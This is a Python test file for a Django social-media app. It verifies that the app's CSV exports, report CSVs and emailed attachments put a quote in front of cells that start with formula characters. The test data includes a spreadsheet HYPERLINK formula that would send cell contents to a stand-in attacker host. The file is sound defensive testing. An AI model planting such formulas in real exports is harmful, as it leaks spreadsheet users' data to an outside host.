"""Spreadsheet formula injection: no CSV the product writes starts a cell with a formula (OWASP's guidance)."""

import csv
import io
from datetime import UTC, date, datetime, timedelta

import pytest
import time_machine
from django.core import mail
from django.core.cache import cache
from django.urls import reverse

from accounts.models import Membership
from core import csvcells
from monitoring.models import MentionMatch
from reports import weekly_export
from tests.monitoring.factories import MentionFactory, MonitorFactory
from tests.tweets.factories import DraftFactory
from tweets.models import Approval, Draft, DraftRevision, DraftTransition

NOW = datetime(2026, 11, 18, 9, 0, tzinfo=UTC)
WEEK = date(2026, 11, 9)
MONDAY = datetime(2026, 11, 9, 10, 0, tzinfo=UTC)
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(autouse=True)
def _clock():
    cache.clear()
    with time_machine.travel(NOW, tick=False):
        yield


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_no_formula(text: str) -> None:
    cells = _cells(text)
    assert cells, "the CSV has cells"
    assert [c for c in cells if c.startswith(TRIGGERS)] == []


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (FORMULA, "'" + FORMULA),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Plain text", "Plain text"),
        ("a = b", "a = b"),
        ("", ""),
        (-5, -5),
        (None, None),
    ],
)
def test_a_cell_starting_with_a_formula_character_is_prefixed_with_a_quote(value, expected):
    assert csvcells.neutralise(value) == expected


def test_the_writer_neutralises_every_cell_and_quotes_as_csv_does():
    out = io.StringIO()

    csvcells.writer(out).writerow([FORMULA, "@mention", 3, 'say "hi", then go'])

    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'" + FORMULA, "'@mention", "3", 'say "hi", then go']]


def test_the_records_export_neutralises_a_draft_and_a_reply_quoting_a_mention(client, lead, account, member, approver):
    mention = MentionFactory(text=FORMULA + " is what they wrote")
    when = datetime(2026, 11, 2, 12, 0, tzinfo=UTC)
    for text, reply_to in [(FORMULA, ""), (mention.text, mention.tweet_id)]:
        draft = DraftFactory(account=account, author=member, state=Draft.State.PUBLISHED, text=text)
        revision = DraftRevision.objects.create(
            draft=draft, number=2, posts=[text, "-1 more"], created_by=member, in_reply_to_post_id=reply_to
        )
        draft.current_revision, draft.published_at, draft.published_post_id = revision, when, f"9{draft.pk}"
        draft.save()
        Approval.objects.create(draft=draft, revision=revision, approver=approver, note="@lead fine", created_at=when)
        DraftTransition.objects.create(
            draft=draft, from_state="approved", to_state="published", actor=approver, reason="+1", created_at=when
        )
    client.force_login(lead)

    response = client.get(
        reverse("reports:export"), {"account": account.pk, "start": "2026-11-01", "end": "2026-11-10", "format": "csv"}
    )

    body = b"".join(response.streaming_content).decode()
    _assert_no_formula(body)
    texts = [c for c in _cells(body) if FORMULA in c]
    assert texts and all(c.startswith("'" + FORMULA) for c in texts)
    assert "'@lead fine" in _cells(body) and "'+1" in _cells(body)


@pytest.fixture
def formula_week(team, lead):
    """A week in which a monitor named like a formula matched a mention whose text is one, for a team whose
    name starts with a plus."""
    team.name = "+Digital Communications"
    team.save()
    monitor = MonitorFactory(team=team, name=FORMULA)
    mention = MentionFactory(text=FORMULA, posted_at=MONDAY)
    MentionMatch.objects.create(mention=mention, monitor=monitor, matched_at=MONDAY)
    Membership.objects.update(started_at=NOW - timedelta(days=365))


def test_the_weekly_report_csv_neutralises_names_from_monitors_and_teams(client, lead, team, formula_week):
    client.force_login(lead)

    response = client.get(reverse("reports:team_csv", args=[team.pk]), {"week": WEEK.isoformat()})

    body = response.content.decode()
    _assert_no_formula(body)
    assert f"'{FORMULA} (+Digital Communications)" in _cells(body)
    assert ["training coverage", "'+Digital Communications", "members", "1"] in csv.reader(io.StringIO(body))


def test_the_weekly_email_attachment_neutralises_them_too(lead, team, formula_week):
    mail.outbox = []

    assert weekly_export.report_email_send(user=lead, week_start=WEEK) is True

    (attachment,) = mail.outbox[0].attachments
    _assert_no_formula(attachment[1])
    assert f"'{FORMULA} (+Digital Communications)" in _cells(attachment[1])


def test_no_product_code_writes_csv_except_through_the_neutralising_writer(settings):
    from pathlib import Path

    root = Path(settings.BASE_DIR)
    apps = ["accounts", "core", "dovecote", "monitoring", "reports", "training", "tweets", "twitter_api"]
    writers = [
        str(path.relative_to(root))
        for app in apps
        for path in (root / app).rglob("*.py")
        if ("csv.writer(" in (text := path.read_text()) or "csv.DictWriter(" in text) and path.name != "csvcells.py"
    ]

    assert writers == []
